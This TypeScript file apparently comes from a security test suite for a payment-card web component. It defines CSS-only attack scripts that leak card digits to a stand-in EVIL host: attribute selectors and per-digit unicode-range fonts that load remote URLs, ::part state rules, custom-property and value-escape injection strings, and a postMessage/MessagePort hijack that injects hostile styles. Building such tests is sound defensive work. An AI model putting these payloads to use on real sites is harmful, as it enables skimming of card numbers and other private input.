/** Style sheets alone: what a rule can tell a server by loading, or not loading, an image or a font. */
import { readManifest } from '../../../demo/playground/manifest.ts';
import type { Attack } from '../attack.ts';
import { hostileMessages } from '../hostile-styles.ts';

/** Every custom property that the element knows. */
const PROPERTIES = (await readManifest()).element.cssProperties?.map(({ name }) => name) ?? [];
if (!PROPERTIES.includes('--shoji-accent')) throw new Error('the manifest names no custom properties');

const wear = `const wear = (text) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(text); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; };`;

export const CSS: readonly Attack[] = [
  {
    id: 'css-attr',
    what: 'has a rule per pair of digits, by attribute selectors on the element and everything in it',
    aim: 'reading',
    control: 'reads',
    script: `${wear}
      wear(PAIRS.map((pair) => '[value*="' + pair + '"] { background-image: url("' + EVIL + '/' + pair + '") }'
        + ' shoji-card *[value*="' + pair + '"], shoji-card[value*="' + pair + '"] { border-image-source: url("' + EVIL + '/' + pair + '") }').join(' '));`,
  },
  {
    id: 'css-part',
    what: 'has rules for parts in focus, filled, valid and empty',
    aim: 'reading',
    control: 'reads',
    script: `${wear}
      const parts = ['number', 'input', 'number input', 'input complete', 'field', 'form', 'placeholder', 'brand', 'frame', 'vault', 'badge', 'error'];
      wear('naive-card::part(number):focus { background-image: url("' + EVIL + '/control") }');
      for (const part of parts) for (const state of [':focus', ':placeholder-shown', ':valid', ':invalid', ':autofill', ':focus-within'])
        try { wear('shoji-card::part(' + part + ')' + state + ' { background-image: url("' + EVIL + '/genuine") }'); } catch { /* no such state here */ }`,
  },
  {
    id: 'css-font',
    what: 'has a font per digit, by unicode-range, inherited into the widget and set on its parts',
    aim: 'reading',
    control: 'reads',
    engines: ['chromium', 'firefox'],
    why: 'WebKitGTK asks for all ten fonts at the first digit, so it tells nothing',
    script: `${wear}
      const text = [];
      for (const digit of '0123456789') text.push('@font-face { font-family: skim; src: url("' + EVIL + '/digit-' + digit + '") format("woff2"); unicode-range: U+003' + digit + ' }');
      text.push('#control-number, #preview, shoji-card, shoji-card::part(form), shoji-card::part(field), shoji-card::part(input), shoji-card::part(number input), shoji-card::part(badge) { font-family: skim, sans-serif !important }');
      const style = document.createElement('style'); // a constructed sheet loads no fonts in every engine
      style.textContent = text.join('\\n');
      document.head.append(style);`,
  },
  {
    id: 'css-var',
    what: 'sends addresses through custom properties and inherited values, as a theme would',
    aim: 'reading',
    control: 'reads',
    script: `${wear}
      const address = 'url("' + EVIL + '/genuine")';
      wear('naive-card::part(number) { background-image: var(--theme) } naive-card { --theme: url("' + EVIL + '/control") }');
      wear('shoji-card { ' + ${JSON.stringify(PROPERTIES)}.map((name) => name + ': ' + address + ';').join(' ')
        + ' font-family: "x); background: ' + "url('" + EVIL + "/genuine')" + '"; quotes: ' + "'}' '*{background:url(" + EVIL + "/genuine)}'" + ' }');
      whenHosts(() => { for (const host of document.querySelectorAll('shoji-card')) for (const property of ['accentColor', 'caretColor', 'colorScheme', 'fontFamily', 'fontVariantNumeric', 'letterSpacing'])
        host.style[property] = property === 'fontFamily' ? '"a\\\\";}*{background:' + address + '}"' : address; });`,
  },
  {
    id: 'css-port',
    takesPort: true,
    what: 'takes the port and sends the frame styles of its own: addresses, ways out of a value, a rule or a text, imports, fonts, unknown properties',
    aim: 'reading',
    control: 'reads',
    alone: true,
    script: `${wear}
      wear('naive-card::part(number) { background-image: url("' + EVIL + '/control") }');
      const messages = JSON.parse(${JSON.stringify(JSON.stringify(hostileMessages('HERE')))}.replaceAll('HERE', EVIL + '/genuine'));
      const original = window.postMessage;
      window.postMessage = function (data, origin, transfer) {
        const [port] = transfer?.[Symbol.iterator] ? transfer : [];
        if (!(port instanceof MessagePort) || data?.type !== 'init') return original.apply(this ?? window, arguments);
        const { port1, port2 } = new MessageChannel();
        let answers = 0;
        port.onmessage = ({ data: message }) => port1.postMessage(message);
        port1.onmessage = ({ data: message }) => { if (message?.type === 'resize') answers += 1; port.postMessage(message); };
        moment(async () => {
          for (const message of messages) port1.postMessage(message);
          const before = answers;
          // the last one is a style, so the frame takes it: its height shows that it took the port's messages at all
          port1.postMessage({ type: 'style', style: [{ at: 'input', values: { height: '160px' } }] });
          await until(() => answers > before);
          if (answers > before) steal('taken from ours');
        });
        return original.call(this, { ...data, style: messages[0].style }, origin, [port2]);
      };`,
  },
];
